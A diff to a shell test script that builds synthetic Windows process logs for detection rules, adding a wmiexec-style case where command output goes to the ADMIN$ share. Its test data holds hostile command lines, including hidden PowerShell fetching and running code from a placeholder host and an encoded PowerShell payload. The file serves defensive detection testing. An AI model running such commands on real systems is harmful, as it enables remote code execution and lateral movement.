@@ -2,6 +2,7 @@
 # written here, each in NXLog's flat shape and Winlogbeat's nested one:
 # services whose image is a shell or a binary from a writable place
 # (1000011), services.exe or WMI starting hidden PowerShell (1000015),
+# command output sent to an administrative share (1000016),
 # Kerberos and NTLM account enumeration (3000033) and a fast spray
 # (3000031) from one source within seconds; and the benign look-alikes
 # of each, which stay quiet.
@@ -61,6 +62,8 @@ for shape in nx wb; do
 	# Class (b), firing: SCM -> cmd -> hidden PowerShell; WMI -> encoded.
 	proc $shape "2026-03-10 09:01:01" ws7.corp.example "$SV" "$CMD" 'C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"iex(iwr http://x)\"' >> "$f"
 	proc $shape "2026-03-10 09:01:02" ws8.corp.example "$WM" "$PS" 'powershell.exe -NoP -NonI -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' >> "$f"
+	# wmiexec: a plain command whose output goes to ADMIN$.
+	proc $shape "2026-03-10 09:01:05" ws9.corp.example "$WM" "$CMD" 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.51 2>&1' >> "$f"
 	# Class (b), quiet: the same under a user's shell, and a visible one.
 	proc $shape "2026-03-10 09:01:03" ws6.corp.example "$CMD" "$PS" 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' >> "$f"
 	proc $shape "2026-03-10 09:01:04" ws6.corp.example "$WM" "$PS" 'powershell.exe -NoProfile -Command Get-Service' >> "$f"
@@ -112,6 +115,7 @@ for shape in nx wb; do
 1000011	ws5
 1000015	ws7
 1000015	ws8
+1000016	ws9
 3000031	10.9.0.66
 3000031	10.9.0.67
 3000031	ws-spray
